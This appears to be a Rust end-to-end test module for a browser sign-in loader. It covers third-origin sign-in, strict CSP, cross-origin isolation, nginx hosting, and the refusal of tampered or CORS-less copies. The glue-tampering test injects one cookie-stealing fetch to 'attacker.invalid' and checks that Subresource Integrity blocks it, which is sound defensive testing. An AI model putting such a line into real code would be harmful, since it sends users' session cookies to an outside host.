//! The loader on a stranger's site: the customer's page is served by a plain static file server
//! (Python's `http.server`, not our dev host) on a third origin, loads `wl.js` from the dev host
//! as from a CDN, and signs in against the provider, with the callback on its own origin: the
//! one-line file `<!doctype html><script src="https://LOADER/wl.js"></script>`.
//!
//! And the loader's copy on a fourth origin, served by a plain static server: with a module
//! altered (Subresource Integrity refuses it: `integrity_failed`), and without CORS headers (a
//! console error names `Access-Control-Allow-Origin` and docs/hosting.md: `connection_failed`).

use serde_json::json;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;
use wl_e2e::flow::{self, Decision};
use wl_e2e::process::GroupChild;
use wl_e2e::{E2eError, Env, Result, check, http, paths, static_site};

use crate::cdn;

/// The cases of this module.
pub fn cases() -> Vec<wl_e2e::Case> {
    wl_e2e::cases![
        cdn::snippet_on_a_third_origin_signs_in,
        cdn::snippet_on_a_third_origin_under_a_strict_csp_signs_in,
        cdn::a_cross_origin_isolated_site_signs_in,
        cdn::a_module_script_tag_signs_in,
        cdn::a_deferred_script_tag_signs_in,
        cdn::an_altered_wasm_module_is_refused,
        cdn::an_altered_glue_module_is_refused,
        cdn::a_copy_without_cors_headers_names_the_header,
        cdn::through_nginx_configured_as_documented_signs_in,
    ]
}

/// How the customer's site is served.
#[derive(Clone, Copy, PartialEq)]
enum Site {
    /// Plain: no Content-Security-Policy, no isolation.
    Plain,
    /// Under a strict CSP, with `integrity` on the script tag.
    StrictCsp,
    /// Cross-origin isolated: every page (the callback too) sent with
    /// `Cross-Origin-Opener-Policy: same-origin` and `Cross-Origin-Embedder-Policy:
    /// require-corp`, as a site that needs `SharedArrayBuffer` is.
    Isolated,
    /// Its page and callback load `wl.js` with `<script type="module" src=…>`, a modern habit:
    /// the script has no `document.currentScript` there, yet its tag's `data-*` configure it.
    ModuleTag,
    /// Its page loads `wl.js` with `<script defer src=…>` (docs/loader.md's advice for a long
    /// page): the controls are drawn once the page is parsed.
    DeferTag,
}

/// A customer's page on a third origin, with no Content-Security-Policy.
pub async fn snippet_on_a_third_origin_signs_in(env: &Env) -> Result<()> {
    third_origin_sign_in(env, Site::Plain).await
}

/// A cross-origin isolated site (`crossOriginIsolated` is true). Its COOP cuts the popup off
/// from the page once the popup is on the provider, so the answer comes on `BroadcastChannel`
/// from its callback; its COEP lets only resources that agree load: `wl.js`, the modules and
/// the person's picture must send `Cross-Origin-Resource-Policy` (docs/hosting.md), and the
/// provider's answers CORS. The person signs in, sees their name and picture, and `WL.api`
/// answers.
pub async fn a_cross_origin_isolated_site_signs_in(env: &Env) -> Result<()> {
    third_origin_sign_in(env, Site::Isolated).await
}

/// The same page with the loader's tags written `<script type="module" src=…>` (on the page and
/// in the callback): its `data-*` configuration is read and its modules are found beside it.
/// Until 2026-12-05 the loader found its tag through `document.currentScript` alone, which is
/// null in a module: the configuration was lost, the modules were looked for beside the page,
/// and the sign-in button's click failed with `connection_failed`.
pub async fn a_module_script_tag_signs_in(env: &Env) -> Result<()> {
    third_origin_sign_in(env, Site::ModuleTag).await
}

/// The same page with `defer` on the loader's tag, as docs/loader.md advises for a long page (a
/// parser-blocking script that arrives after the HTML makes the rest of the parse slower): the
/// script runs once the page is parsed, defines the elements, and they draw and sign in.
pub async fn a_deferred_script_tag_signs_in(env: &Env) -> Result<()> {
    third_origin_sign_in(env, Site::DeferTag).await
}

/// The same page under a strict CSP: no `unsafe-inline`, `script-src` naming only the loader's
/// host and `'wasm-unsafe-eval'`; and `integrity` on the script tag (the hash docs/hosting.md
/// says how to compute), which then covers the modules wl.js loads.
pub async fn snippet_on_a_third_origin_under_a_strict_csp_signs_in(env: &Env) -> Result<()> {
    third_origin_sign_in(env, Site::StrictCsp).await
}

async fn third_origin_sign_in(env: &Env, site: Site) -> Result<()> {
    let strict_csp = site == Site::StrictCsp;
    let server = env.server()?;
    let port = http::free_port()?;
    let customer = format!("http://127.0.0.1:{port}");
    let client_id = register_app(server.data_dir(), &customer)?;

    let root = tempfile::Builder::new()
        .prefix("wl-e2e-customer-")
        .tempdir()?;
    let dist = paths::wl_dist()?;
    let csp = if strict_csp {
        format!(
            "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; \
             script-src {site} 'wasm-unsafe-eval'; connect-src {site} {provider}; \
             img-src {provider} data:; style-src 'none'; base-uri 'none'; object-src 'none'\">",
            site = server.site,
            provider = server.provider
        )
    } else {
        String::new()
    };
    let script = if site == Site::ModuleTag {
        "<script type=\"module\""
    } else {
        "<script"
    };
    // The callback, in one copy on the customer's origin: one line (under the same CSP).
    std::fs::write(
        root.path().join("callback.html"),
        format!(
            "<!doctype html>{csp}{script} src=\"{site}/wl.js\"></script>\n",
            site = server.site
        ),
    )?;
    let integrity = if strict_csp {
        format!(
            " integrity=\"sha384-{}\" crossorigin=\"anonymous\"",
            sri384(&dist.join("wl.js"))?
        )
    } else {
        String::new()
    };
    let defer = if site == Site::DeferTag { " defer" } else { "" };
    let page = format!(
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">{csp}\
         <title>A customer's site</title></head><body>\n<h1>A customer's site</h1>\n\
         {script}{defer} src=\"{site}/wl.js\"{integrity} data-client-id=\"{client_id}\" data-authority=\"{provider}\" \
         data-scope=\"wl.signin wl.basic\" data-redirect-uri=\"{customer}/callback.html\"></script>\n\
         <wl-signin theme=\"blue\"></wl-signin>\n<wl-userinfo layout=\"compact\"></wl-userinfo>\n\
         </body></html>\n",
        site = server.site,
        provider = server.provider,
    );
    std::fs::write(root.path().join("index.html"), page)?;
    let _static_server = if site == Site::Isolated {
        let isolation = [
            ("Cross-Origin-Opener-Policy", "same-origin"),
            ("Cross-Origin-Embedder-Policy", "require-corp"),
        ];
        static_site::serve_with_headers(root.path(), port, &isolation, "index.html")?
    } else {
        static_site::serve(root.path(), port, false, "index.html")?
    };

    let b = env.browser().await?;
    b.goto(&format!("{customer}/index.html")).await?;
    if site == Site::Isolated {
        let isolated = b.js("return self.crossOriginIsolated;", vec![]).await?;
        check(
            isolated == json!(true),
            format!("the customer's page should be cross-origin isolated: {isolated}"),
        )?;
    }
    flow::wait_button_text(&b, "wl-signin", "sign in", Duration::from_secs(15)).await?;
    flow::wait_userinfo_empty(&b, "wl-userinfo", Duration::from_secs(2)).await?;
    flow::click_control_button(&b, "wl-signin").await?;
    flow::sign_in_in_popup(&b, &server.provider, "alice", Decision::Allow).await?;
    flow::wait_userinfo_shows(&b, "wl-userinfo", "Alice", Duration::from_secs(10)).await?;
    flow::wait_button_text(&b, "wl-signin", "sign out", Duration::from_secs(5)).await?;
    flow::check_api_me(&b, "Alice Anderson", "on the customer's origin").await?;
    let location = b.js("return location.origin;", vec![]).await?;
    check(
        location == json!(customer),
        format!("the page should still be the customer's: {location}"),
    )?;
    if strict_csp {
        let log = b.console_log().await;
        check(
            !log.iter().any(|l| l.contains("Content Security Policy")),
            format!("no CSP violation expected: {log:?}"),
        )?;
    }
    Ok(())
}

/// `wl-server apps add` for the customer's origin, on the running server's data; the client id.
pub(crate) fn register_app(data_dir: &Path, origin: &str) -> Result<String> {
    let args = [
        "apps".to_owned(),
        "add".to_owned(),
        "--name".to_owned(),
        "A customer's site".to_owned(),
        "--redirect-uri".to_owned(),
        format!("{origin}/callback.html"),
        "--origin".to_owned(),
        origin.to_owned(),
    ];
    apps_add(&args, data_dir, "wl-server apps add")
}

/// Runs `wl-server` with `args` (an `apps add`) on the data in `data_dir`; the client id it
/// prints. `what` names the command in an error.
pub(crate) fn apps_add(args: &[String], data_dir: &Path, what: &str) -> Result<String> {
    let out = Command::new(paths::server_bin()?)
        .args(args)
        .arg("--data-dir")
        .arg(data_dir)
        .stdin(Stdio::null())
        .output()?;
    let id = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    if !out.status.success() || id.is_empty() {
        return Err(E2eError::Process {
            program: what.to_owned(),
            message: String::from_utf8_lossy(&out.stderr).into_owned(),
        });
    }
    Ok(id)
}

/// `openssl dgst -sha384 -binary FILE | openssl base64 -A`, as docs/hosting.md says to compute
/// the script tag's `integrity`.
fn sri384(file: &Path) -> Result<String> {
    let out = Command::new("sh")
        .arg("-c")
        .arg("openssl dgst -sha384 -binary \"$1\" | openssl base64 -A")
        .arg("sh")
        .arg(file)
        .stdin(Stdio::null())
        .output()?;
    let hash = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    if !out.status.success() || hash.len() != 64 {
        return Err(E2eError::Process {
            program: "openssl dgst -sha384".into(),
            message: String::from_utf8_lossy(&out.stderr).into_owned(),
        });
    }
    Ok(hash)
}

/// What is done to the loader's copy on the fourth origin.
#[derive(Clone, Copy, PartialEq)]
enum Copy {
    /// The sign-in page's wasm altered by one byte, served with CORS.
    AlteredWasm,
    /// The sign-in page's glue altered (a statement appended), served with CORS.
    AlteredGlue,
    /// Unaltered, served without any CORS header.
    NoCors,
}

/// A copy of the package whose wasm modules (`wl_connect_bg.<hash>.wasm`, …) were altered (same
/// names): refused by Subresource Integrity, never run; `WL.login`, `WL.api` and the controls report
/// `integrity_failed`.
pub async fn an_altered_wasm_module_is_refused(env: &Env) -> Result<()> {
    broken_copy(env, Copy::AlteredWasm).await
}

/// The same with the module's JavaScript glue altered.
pub async fn an_altered_glue_module_is_refused(env: &Env) -> Result<()> {
    broken_copy(env, Copy::AlteredGlue).await
}

/// A self-hosted copy served without `Access-Control-Allow-Origin`: the console names the
/// header and docs/hosting.md, and everything reports `connection_failed` (never hangs).
pub async fn a_copy_without_cors_headers_names_the_header(env: &Env) -> Result<()> {
    broken_copy(env, Copy::NoCors).await
}

async fn broken_copy(env: &Env, what: Copy) -> Result<()> {
    let server = env.server()?;
    let [port, loader_port] = http::free_ports()?;
    let customer = format!("http://127.0.0.1:{port}");
    let loader = format!("http://127.0.0.1:{loader_port}");
    let dist = paths::wl_dist()?;

    let copy = tempfile::Builder::new().prefix("wl-e2e-copy-").tempdir()?;
    std::fs::create_dir(copy.path().join("pkg"))?;
    std::fs::copy(dist.join("wl.js"), copy.path().join("wl.js"))?;
    for entry in std::fs::read_dir(dist.join("pkg"))? {
        let entry = entry?;
        let name = entry.file_name();
        let to = copy.path().join("pkg").join(&name);
        let mut bytes = std::fs::read(entry.path())?;
        let name = name.to_string_lossy();
        // Every module altered: the core (what a signed-out page loads first) and the controls'
        // (which the controls then ask for, to show the failure).
        if name.contains("_bg.") && what == Copy::AlteredWasm {
            // A byte in the last function body: still the same size, same name.
            let last = bytes.len() - 1;
            bytes[last - 8] ^= 0x01;
        }
        if name.ends_with(".js") && what == Copy::AlteredGlue {
            bytes.extend_from_slice(b"\nfetch('https://attacker.invalid/?' + document.cookie);\n");
        }
        std::fs::write(to, bytes)?;
    }
    let _loader = static_site::serve(copy.path(), loader_port, what != Copy::NoCors, "wl.js")?;

    let root = tempfile::Builder::new()
        .prefix("wl-e2e-customer-")
        .tempdir()?;
    let page = format!(
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
         <title>A customer's site</title></head><body>\n\
         <script src=\"{loader}/wl.js\" data-client-id=\"wl-demo\" data-authority=\"{provider}\" \
         data-scope=\"wl.signin wl.basic\" data-redirect-uri=\"{customer}/callback.html\"></script>\n\
         <wl-signin theme=\"blue\"></wl-signin>\n<wl-userinfo layout=\"compact\"></wl-userinfo>\n\
         </body></html>\n",
        provider = server.provider,
    );
    std::fs::write(root.path().join("index.html"), page)?;
    let _customer = static_site::serve(root.path(), port, false, "index.html")?;

    let b = env.browser().await?;
    let _ = b.console_log().await;
    b.goto(&format!("{customer}/index.html")).await?;
    let code = if what == Copy::NoCors {
        "connection_failed"
    } else {
        "integrity_failed"
    };
    // The controls show it (and fire `wl-error`) rather than waiting for ever.
    let shown = b
        .wait_js(
            "both controls' data-wl-error",
            Duration::from_secs(15),
            "const s = document.querySelector('wl-signin').getAttribute('data-wl-error');
             const u = document.querySelector('wl-userinfo').getAttribute('data-wl-error');
             return s && u ? [s, u] : null;",
        )
        .await?;
    check(
        shown == json!([code, code]),
        format!("the controls should show {code}: {shown}"),
    )?;
    // WL.api and WL.login reject with the code, promptly (each retries the load).
    let answers = b
        .js(
            "const t = (p) => Promise.race([p.then(r => ({ resolved: r }), e => e.code || String(e)),
                 new Promise(r => setTimeout(() => r('hung'), 10000))]);
             return Promise.all([t(WL.api({ path: 'me' })), t(WL.login()), t(WL.getLoginStatus())]);",
            vec![],
        )
        .await?;
    check(
        answers == json!([code, code, code]),
        format!("WL.api, WL.login and WL.getLoginStatus should reject with {code}: {answers}"),
    )?;
    let log = b.console_log().await;
    let named = log.iter().any(|l| {
        l.contains("Access-Control-Allow-Origin")
            && l.contains("docs/hosting.md")
            && l.contains(&loader)
    });
    check(
        named == (what == Copy::NoCors),
        format!(
            "the console should {}name the missing header and docs/hosting.md: {log:?}",
            if named { "not " } else { "" }
        ),
    )?;
    if what == Copy::AlteredGlue {
        // The altered glue never ran.
        let ran = b
            .js(
                "return performance.getEntriesByType('resource').some(e => e.name.includes('attacker.invalid'));",
                vec![],
            )
            .await?;
        check(ran == json!(false), "the altered glue must not run")?;
    }
    Ok(())
}

/// The package served by Debian's nginx with exactly the configuration docs/hosting.md gives
/// (read from the doc): the headers it promises, `If-None-Match` → 304, the versioned path, and a
/// customer page on another origin signing in through `/v1/wl.js` (with the one-line callback).
pub async fn through_nginx_configured_as_documented_signs_in(env: &Env) -> Result<()> {
    let server = env.server()?;
    let dist = paths::wl_dist()?;
    let [port, cdn_port] = http::free_ports()?;
    let customer = format!("http://127.0.0.1:{port}");
    let cdn = format!("http://127.0.0.1:{cdn_port}");
    let _nginx = nginx(&dist, cdn_port)?;

    // The headers, as docs/hosting.md's table says.
    let wasm = std::fs::read_dir(dist.join("pkg"))?
        .filter_map(|f| f.ok().map(|f| f.file_name().to_string_lossy().into_owned()))
        .find(|n| n.starts_with("wl_connect_controls_bg.") && n.ends_with(".wasm"))
        .ok_or_else(|| E2eError::Missing {
            what: "the combined module's wasm",
            path: dist.join("pkg").display().to_string(),
            hint: "run `cargo xtask build`",
        })?;
    let head = raw_get(cdn_port, &format!("/v1/pkg/{wasm}"), None)?;
    for want in [
        " 200 ",
        "content-type: application/wasm",
        "cache-control: public, max-age=31536000, immutable",
        "access-control-allow-origin: *",
        "cross-origin-resource-policy: cross-origin",
    ] {
        check(
            head.to_ascii_lowercase().contains(want),
            format!("/v1/pkg/{wasm} through nginx should have `{want}`: {head}"),
        )?;
    }
    let head = raw_get(cdn_port, "/v1/wl.js", None)?;
    for want in [
        " 200 ",
        "javascript",
        "cache-control: public, max-age=300",
        "access-control-allow-origin: *",
        "etag: \"",
    ] {
        check(
            head.to_ascii_lowercase().contains(want),
            format!("/v1/wl.js through nginx should have `{want}`: {head}"),
        )?;
    }
    let etag = head
        .lines()
        .find_map(|l| {
            l.split_once(':')
                .filter(|(k, _)| k.eq_ignore_ascii_case("etag"))
                .map(|(_, v)| v.trim().to_owned())
        })
        .unwrap_or_default();
    let again = raw_get(cdn_port, "/v1/wl.js", Some(&etag))?;
    check(
        again.starts_with("HTTP/1.1 304"),
        format!("If-None-Match: {etag} should be answered 304: {again}"),
    )?;

    // A customer's page loading the versioned path, and its one-line callback.
    let client_id = register_app(server.data_dir(), &customer)?;
    let root = tempfile::Builder::new()
        .prefix("wl-e2e-customer-")
        .tempdir()?;
    std::fs::write(
        root.path().join("callback.html"),
        format!("<!doctype html><script src=\"{cdn}/v1/wl.js\"></script>\n"),
    )?;
    std::fs::write(
        root.path().join("index.html"),
        format!(
            "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
             <title>A customer's site</title></head><body>\n\
             <script src=\"{cdn}/v1/wl.js\" data-client-id=\"{client_id}\" data-authority=\"{provider}\" \
             data-scope=\"wl.signin wl.basic\" data-redirect-uri=\"{customer}/callback.html\"></script>\n\
             <wl-signin theme=\"blue\"></wl-signin>\n<wl-userinfo layout=\"compact\"></wl-userinfo>\n\
             </body></html>\n",
            provider = server.provider,
        ),
    )?;
    let _customer = static_site::serve(root.path(), port, false, "index.html")?;
    let b = env.browser().await?;
    b.goto(&format!("{customer}/index.html")).await?;
    flow::wait_button_text(&b, "wl-signin", "sign in", Duration::from_secs(15)).await?;
    flow::click_control_button(&b, "wl-signin").await?;
    flow::sign_in_in_popup(&b, &server.provider, "alice", Decision::Allow).await?;
    flow::wait_userinfo_shows(&b, "wl-userinfo", "Alice", Duration::from_secs(10)).await?;
    Ok(())
}

/// nginx (Debian's, `cargo xtask test` installs it) in the foreground on `port`, serving `dist`
/// with the `nginx` block of docs/hosting.md inside its `server { }`.
fn nginx(dist: &Path, port: u16) -> Result<(GroupChild, tempfile::TempDir)> {
    let doc = std::fs::read_to_string(paths::repo_root().join("docs/hosting.md"))?;
    let block = doc
        .split_once("```nginx\n")
        .and_then(|(_, rest)| rest.split_once("```"))
        .map(|(block, _)| block.to_owned())
        .ok_or_else(|| E2eError::Missing {
            what: "the nginx configuration in docs/hosting.md",
            path: "docs/hosting.md".into(),
            hint: "a ```nginx block in the doc",
        })?;
    let dir = tempfile::Builder::new().prefix("wl-e2e-nginx-").tempdir()?;
    let d = dir.path().display();
    let conf = format!(
        "daemon off;\nmaster_process off;\npid {d}/nginx.pid;\nerror_log {d}/error.log;\n\
         events {{ worker_connections 64; }}\n\
         http {{\n  include /etc/nginx/mime.types;\n  default_type application/octet-stream;\n\
           access_log off;\n  client_body_temp_path {d}/body;\n  proxy_temp_path {d}/proxy;\n\
           fastcgi_temp_path {d}/fastcgi;\n  uwsgi_temp_path {d}/uwsgi;\n  scgi_temp_path {d}/scgi;\n\
           server {{\n    listen 127.0.0.1:{port};\n    root {root};\n{block}\n  }}\n}}\n",
        root = dist.display(),
    );
    let conf_path = dir.path().join("nginx.conf");
    std::fs::write(&conf_path, conf)?;
    let bin = ["/usr/sbin/nginx", "/usr/local/sbin/nginx"]
        .into_iter()
        .map(Path::new)
        .find(|p| p.is_file())
        .ok_or_else(|| E2eError::Missing {
            what: "nginx (Debian's `nginx`; `cargo xtask test` installs it)",
            path: "/usr/sbin/nginx".into(),
            hint: "apt-get install nginx",
        })?;
    let mut cmd = Command::new(bin);
    cmd.arg("-p")
        .arg(dir.path())
        .arg("-e")
        .arg(dir.path().join("error.log"))
        .arg("-c")
        .arg(&conf_path)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let mut child = GroupChild::spawn(cmd, "nginx")?;
    let url = format!("http://127.0.0.1:{port}/wl.js");
    let timeout = Duration::from_secs(10);
    http::wait_for_200(&url, timeout).map_err(|last| E2eError::Timeout {
        what: format!("nginx at {url} to answer 200"),
        timeout,
        last: format!(
            "; last seen: {last:?}; error.log: {}",
            std::fs::read_to_string(dir.path().join("error.log")).unwrap_or_default()
        ),
    })?;
    child.ensure_running()?;
    Ok((child, dir))
}

/// `GET path` on 127.0.0.1:`port` (with `If-None-Match: tag`); the status line and headers.
fn raw_get(port: u16, path: &str, if_none_match: Option<&str>) -> Result<String> {
    use std::io::{Read, Write};
    let mut tcp = std::net::TcpStream::connect(("127.0.0.1", port))?;
    tcp.set_read_timeout(Some(Duration::from_secs(5)))?;
    let extra = if_none_match
        .map(|t| format!("If-None-Match: {t}\r\n"))
        .unwrap_or_default();
    write!(
        tcp,
        "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nOrigin: http://127.0.0.1:1\r\n{extra}Connection: close\r\n\r\n"
    )?;
    let mut out = Vec::new();
    tcp.read_to_end(&mut out)?;
    let text = String::from_utf8_lossy(&out);
    Ok(text
        .split_once("\r\n\r\n")
        .map_or(text.as_ref(), |(head, _)| head)
        .to_owned())
}
